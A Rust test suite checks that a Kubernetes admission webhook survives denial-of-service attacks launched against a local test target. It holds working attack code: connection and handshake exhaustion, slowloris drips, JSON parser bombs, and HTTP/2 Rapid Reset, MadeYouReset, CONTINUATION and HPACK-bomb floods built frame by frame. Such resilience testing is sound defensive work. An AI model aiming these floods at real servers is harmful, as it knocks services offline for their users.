//! The attacks.

use std::time::Duration;

use futures::future::join_all;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::timeout,
};

use crate::target::{Stream, Target, target};

/// How long an attacker keeps at it.
const ATTACK: Duration = Duration::from_secs(3);
const PATH: &str = "/mutate/0123456789/0123456789";

/// Sends until the target hangs up, or for as long as the attack lasts. Returns whether it hung up.
async fn flood(stream: &mut Stream, bytes: &[u8]) -> bool {
    let send = async { while stream.write_all(bytes).await.is_ok() && stream.flush().await.is_ok() {} };
    timeout(ATTACK, send).await.is_ok()
}

/// Again and again, for as long as the attack lasts.
async fn for_a_while(attack: impl AsyncFn()) {
    let again = async {
        loop {
            attack().await;
        }
    };
    let _ = timeout(ATTACK, again).await;
}

/// Holds what there is of an attack open, and swallows what comes, until the target hangs up or the attack is over.
async fn hold(mut stream: Stream) {
    let mut sink = [0; 4096];
    let read = async { while matches!(stream.read(&mut sink).await, Ok(1..)) {} };
    let _ = timeout(ATTACK, read).await;
}

// Connections

#[tokio::test]
async fn ten_thousand_idle_connections() {
    let (_alone, target) = target().await;
    let closed = target.metric(CROWDED).await;
    target
        .withstands(async {
            let mut idle = Vec::new();
            for _ in 0..50 {
                idle.extend(join_all((0..200).map(|_| TcpStream::connect(target.address()))).await);
            }
            assert_eq!(idle.iter().flatten().count(), 10_000);
            tokio::time::sleep(ATTACK).await;
        })
        .await;
    assert!(target.metric(CROWDED).await - closed > 9_000.0);
    assert!(target.metric("ecr_cname_webhook_connections").await < 10.0);
}

const CROWDED: &str = "ecr_cname_webhook_connections_closed_total{reason=\"Crowded\"}";

#[tokio::test]
async fn a_thousand_connections_that_shook_hands_and_say_nothing() {
    let (_alone, target) = target().await;
    for alpn in ["h2", "http/1.1"] {
        target
            .withstands(async {
                let idle: Vec<_> = join_all((0..1000).map(|_| target.connect(alpn))).await;
                tokio::time::sleep(ATTACK).await;
                drop(idle);
            })
            .await;
    }
}

#[tokio::test]
async fn handshakes_that_never_end() {
    let (_alone, target) = target().await;
    // The head of a ClientHello, that announces more than comes.
    let hello = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
    target
        .withstands(async {
            let slow = join_all((0..1000).map(async |_| {
                let mut stream = TcpStream::connect(target.address()).await.ok()?;
                for byte in hello {
                    stream.write_all(&[byte]).await.ok()?;
                    tokio::time::sleep(Duration::from_millis(300)).await;
                }
                Some(stream)
            }));
            slow.await;
        })
        .await;
}

#[tokio::test]
async fn garbage_instead_of_tls() {
    let (_alone, target) = target().await;
    let garbage: Vec<u8> = (0..64 * 1024).map(|i: u32| (i.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    let kinds = [&garbage[..], b"GET / HTTP/1.1\r\nHost: w\r\n\r\n", &[0x16, 3, 1, 0xff, 0xff], &[0; 1000]];
    target
        .withstands(async {
            for_a_while(async || {
                join_all(kinds.map(async |kind| {
                    let Ok(mut stream) = TcpStream::connect(target.address()).await else { return };
                    let _ = stream.write_all(kind).await;
                    let mut answer = Vec::new();
                    let _ = timeout(Duration::from_secs(3), stream.read_to_end(&mut answer)).await;
                }))
                .await;
            })
            .await;
        })
        .await;
}

// HTTP/1.1

#[tokio::test]
async fn headers_that_never_end() {
    let (_alone, target) = target().await;
    target
        .withstands(async {
            join_all((0..300).map(async |_| {
                let mut stream = target.connect("http/1.1").await?;
                stream.write_all(format!("POST {PATH} HTTP/1.1\r\n").as_bytes()).await.ok()?;
                let drip = async {
                    while stream.write_all(b"X-A: b\r\n").await.is_ok() {
                        tokio::time::sleep(Duration::from_millis(200)).await;
                    }
                };
                let _ = timeout(ATTACK, drip).await;
                Some(())
            }))
            .await;
        })
        .await;
}

#[tokio::test]
async fn headers_without_bounds() {
    let (_alone, target) = target().await;
    target
        .withstands(async {
            for_a_while(async || {
                join_all((0..8).map(async |_| {
                    let mut stream = target.connect("http/1.1").await?;
                    stream.write_all(format!("POST {PATH} HTTP/1.1\r\nX-A: ").as_bytes()).await.ok()?;
                    assert!(flood(&mut stream, &[b'a'; 16 * 1024]).await, "the target listened to the end");
                    Some(())
                }))
                .await;
            })
            .await;
        })
        .await;
}

/// Before, 64 of these were all requests that there could be.
#[tokio::test]
async fn bodies_that_never_end() {
    let (_alone, target) = target().await;
    target
        .withstands(async {
            // Again and again, for each is cut off after 2 s.
            for _ in 0..2 {
                join_all((0..400).map(async |_| {
                    let mut stream = target.connect("http/1.1").await?;
                    let head = head(8 * 1024 * 1024);
                    stream.write_all(head.as_bytes()).await.ok()?;
                    let drip = async {
                        while stream.write_all(b" ").await.is_ok() {
                            tokio::time::sleep(Duration::from_millis(200)).await;
                        }
                    };
                    let _ = timeout(ATTACK, drip).await;
                    Some(())
                }))
                .await;
            }
        })
        .await;
}

/// The head of a request of HTTP/1.1 with a body of this length.
fn head(length: usize) -> String {
    format!(
        "POST {PATH} HTTP/1.1\r\nHost: w\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
    )
}

/// All but the last byte of the largest body there may be, on as many connections as together would take half a gigabyte.
#[tokio::test]
async fn large_bodies_that_never_end() {
    let (_alone, target) = target().await;
    let evicted = target.metric(MEMORY_FULL).await;
    let body = vec![b' '; 8 * 1024 * 1024 - 1];
    target
        .withstands(async {
            join_all((0..64).map(async |_| {
                let mut stream = target.connect("http/1.1").await?;
                stream.write_all(head(8 * 1024 * 1024).as_bytes()).await.ok()?;
                stream.write_all(&body).await.ok()?;
                hold(stream).await;
                Some(())
            }))
            .await;
        })
        .await;
    assert!(target.metric(MEMORY_FULL).await > evicted, "none had to go");
}

const MEMORY_FULL: &str = "ecr_cname_webhook_connections_closed_total{reason=\"Memory\"}";

/// Requests one after the other, whose answers nobody reads.
#[tokio::test]
async fn pipelined_requests_whose_answers_are_not_taken() {
    let (_alone, target) = target().await;
    let uid = "u".repeat(64 * 1024);
    let body = review(&uid, "[]");
    let request = [head(body.len()).as_bytes(), body.as_bytes()].concat();
    target
        .withstands(async {
            join_all((0..100).map(async |_| {
                let mut stream = target.connect("http/1.1").await?;
                Some(flood(&mut stream, &request).await)
            }))
            .await;
        })
        .await;
}

/// A review of a new pod.
fn review(uid: &str, containers: &str) -> String {
    format!(
        r#"{{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{{"uid":"{uid}","kind":{{"group":"","version":"v1","kind":"Pod"}},"operation":"UPDATE","object":{{"spec":{{"containers":{containers}}}}}}}}}"#
    )
}

// Bodies

/// Bodies that are hard on a parser, as fast as they are answered.
#[tokio::test]
async fn poisonous_bodies() {
    let (_alone, target) = target().await;
    let large = 7 * 1024 * 1024;
    let bodies: Vec<Vec<u8>> = vec![
        "[".repeat(large).into(),
        "{\"a\":".repeat(large / 5).into(),
        format!("{{\"request\":{}", "[".repeat(100_000)).into(),
        format!("\"{}\"", "a".repeat(large)).into(),
        review(&"u".repeat(large), "[]").into(),
        review("u", &format!(r#"[{{"name":"a","image":"a.example.io/{}"}}]"#, "a".repeat(large))).into(),
        // An element of two bytes becomes one of many more.
        review("u", &format!("[{}{{}}]", "{},".repeat(large / 3))).into(),
        review("u", &format!("[{}null]", "null,".repeat(large / 5))).into(),
        format!("{{{}\"kind\":1}}", "\"kind\":\"AdmissionReview\",".repeat(large / 25)).into(),
        format!("{{{}\"x\":1}}", "\"x\":0,".repeat(large / 6)).into(),
        [b"{\"kind\":\"".as_slice(), &vec![0xff; large], b"\"}"].concat(),
        review("\\ud800", "[]").into(),
        review("u", r#"[{"name":"a","image":"\udc00\ud800"}]"#).into(),
        review("u", &format!("[{}1e400]", "1e308,".repeat(large / 6))).into(),
        vec![0; large],
        Vec::new(),
    ];
    target
        .withstands(async {
            join_all(bodies.iter().map(async |body| {
                for kind in ["application/json", "text/plain", "application/json; charset=utf-7", "\u{7f}"] {
                    let Some(mut stream) = target.connect("http/1.1").await else { continue };
                    let head = head(body.len()).replace("application/json", kind);
                    let head = head.replace("Host: w", "Host: w\r\nConnection: close");
                    let _ = stream.write_all(head.as_bytes()).await;
                    let _ = stream.write_all(body).await;
                    let mut answer = Vec::new();
                    let _ = timeout(Duration::from_secs(10), stream.read_to_end(&mut answer)).await;
                    let status = String::from_utf8_lossy(&answer[..answer.len().min(12)]).into_owned();
                    // It may be the one that has to go for memory, or not arrive in time on a machine that is busy.
                    let known = [
                        "",
                        "HTTP/1.1 200",
                        "HTTP/1.1 400",
                        "HTTP/1.1 408",
                        "HTTP/1.1 413",
                        "HTTP/1.1 415",
                        "HTTP/1.1 503",
                    ];
                    assert!(known.contains(&status.as_str()), "{status}");
                }
            }))
            .await;
        })
        .await;
}

// HTTP/2

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a request, without any compression.
fn request_headers() -> Vec<u8> {
    let mut block = vec![0x83, 0x87];
    for (name, value) in [(":path", PATH), (":authority", "w"), ("content-type", "application/json")] {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap());
            block.extend_from_slice(text.as_bytes());
        }
    }
    block
}

/// The ids of a client's streams.
fn streams() -> impl Iterator<Item = u32> {
    (1..).step_by(2)
}

impl Target {
    /// A connection of HTTP/2 with these settings.
    async fn h2(&self, settings: &[(u16, u32)]) -> Option<Stream> {
        let mut stream = self.connect("h2").await?;
        let settings: Vec<u8> =
            settings.iter().flat_map(|(k, v)| [&k.to_be_bytes()[..], &v.to_be_bytes()].concat()).collect();
        stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &settings)].concat()).await.ok()?;
        Some(stream)
    }

    /// Floods the target with what `frames` makes for stream after stream, and reads nothing.
    async fn h2_flood(&self, frames: impl Fn(u32) -> Vec<u8>) {
        join_all((0..4).map(async |_| {
            let attack = async {
                // Whenever the target hangs up, from the start.
                while let Some(mut stream) = self.h2(&[]).await {
                    for id in streams() {
                        if stream.write_all(&frames(id)).await.is_err() {
                            break;
                        }
                    }
                }
            };
            let _ = timeout(ATTACK, attack).await;
        }))
        .await;
    }
}

/// CVE-2023-44487.
#[tokio::test]
async fn http2_rapid_reset() {
    let (_alone, target) = target().await;
    let block = request_headers();
    let attack = target.h2_flood(|id| {
        [frame(HEADERS, END_HEADERS, id, &block), frame(RST_STREAM, 0, id, &8u32.to_be_bytes())].concat()
    });
    target.withstands(attack).await;
}

/// The target is made to reset its streams itself: CVE-2025-8671, "MadeYouReset".
#[tokio::test]
async fn http2_made_to_reset() {
    let (_alone, target) = target().await;
    let block = request_headers();
    let attack = target.h2_flood(|id| {
        [frame(HEADERS, END_HEADERS, id, &block), frame(WINDOW_UPDATE, 0, id, &0u32.to_be_bytes())].concat()
    });
    target.withstands(attack).await;
}

#[tokio::test]
async fn http2_floods_of_settings_pings_and_window_updates() {
    let (_alone, target) = target().await;
    let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff].repeat(100)).repeat(16);
    target.withstands(target.h2_flood(|_| settings.clone())).await;
    let pings = frame(PING, 0, 0, &[7; 8]).repeat(1000);
    target.withstands(target.h2_flood(|_| pings.clone())).await;
    let updates = frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffffu32.to_be_bytes()).repeat(1000);
    target.withstands(target.h2_flood(|_| updates.clone())).await;
}

/// CVE-2024-27316 and its kin: headers that go on for ever.
#[tokio::test]
async fn http2_continuation_flood() {
    let (_alone, target) = target().await;
    let start = frame(HEADERS, 0, 1, &request_headers());
    let more = frame(CONTINUATION, 0, 1, &[&[0, 1, b'x', 127, 0x81, 0x7e][..], &[b'a'; 16_000]].concat());
    let empty = frame(CONTINUATION, 0, 1, &[]).repeat(1000);
    for more in [more, empty] {
        let attack = target.h2_flood(|id| if id == 1 { start.clone() } else { more.clone() });
        target.withstands(attack).await;
    }
}

/// A header table that is filled once and named again and again.
#[tokio::test]
async fn http2_header_bomb() {
    let (_alone, target) = target().await;
    let mut block = request_headers();
    // Literal with incremental indexing: x: 4,000 times a. Then that entry, 10,000 times.
    block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
    block.extend_from_slice(&[b'a'; 4000]);
    block.extend_from_slice(&[0xbe; 10_000]);
    let attack = target.h2_flood(|id| frame(HEADERS, END_HEADERS, id, &block));
    target.withstands(attack).await;
}

/// As many requests as the target allows on each of many connections, each with the first byte of a body.
#[tokio::test]
async fn http2_many_streams_with_bodies_that_never_end() {
    let (_alone, target) = target().await;
    let block = request_headers();
    target
        .withstands(async {
            join_all((0..200).map(async |_| {
                let mut stream = target.h2(&[]).await?;
                for id in streams().take(64) {
                    let frames = [frame(HEADERS, END_HEADERS, id, &block), frame(DATA, 0, id, b"{")].concat();
                    stream.write_all(&frames).await.ok()?;
                }
                hold(stream).await;
                Some(())
            }))
            .await;
        })
        .await;
}

/// Frames of no data cost no window.
#[tokio::test]
async fn http2_flood_of_empty_data() {
    let (_alone, target) = target().await;
    let start = frame(HEADERS, END_HEADERS, 1, &request_headers());
    let empty = frame(DATA, 0, 1, &[]).repeat(1000);
    let attack = target.h2_flood(|id| if id == 1 { start.clone() } else { empty.clone() });
    target.withstands(attack).await;
}

/// Answers that the client gives no room for: its window is shut.
#[tokio::test]
async fn http2_answers_that_are_not_taken() {
    let (_alone, target) = target().await;
    let block = request_headers();
    // Together they fit into the window of a connection.
    let body = review(&"u".repeat(3 * 1024), "[]");
    target
        .withstands(async {
            join_all((0..100).map(async |_| {
                // SETTINGS_INITIAL_WINDOW_SIZE
                let mut stream = target.h2(&[(4, 0)]).await?;
                for id in streams().take(64) {
                    let headers = frame(HEADERS, END_HEADERS, id, &block);
                    let data = frame(DATA, END_STREAM, id, body.as_bytes());
                    stream.write_all(&[headers, data].concat()).await.ok()?;
                }
                hold(stream).await;
                Some(())
            }))
            .await;
        })
        .await;
}
